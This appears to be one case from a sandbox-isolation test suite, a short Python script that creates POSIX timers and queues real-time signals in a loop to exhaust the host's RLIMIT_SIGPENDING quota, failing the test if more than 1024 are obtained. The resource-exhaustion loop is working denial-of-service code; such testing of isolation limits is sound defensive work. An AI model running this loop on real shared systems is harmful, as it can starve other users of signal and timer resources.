# attack: Takes timers and queued signals until the host's users have none.
# layer: RLIMIT_SIGPENDING
# second: each sandbox's user is its own
# off: rlimits
# sites: guest
# host: signals=16 slab=32M
import signal

from attack import *

signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
timer = ctypes.c_void_p()
taken = 0
while taken < 700 and libc.timer_create(1, None, ctypes.byref(timer)) == 0:
    taken += 1
while taken < 3000 and libc.sigqueue(os.getpid(), int(signal.SIGRTMIN), None) == 0:
    taken += 1
if taken > 1024:
    fell(f"{taken} timers and signals")
end()
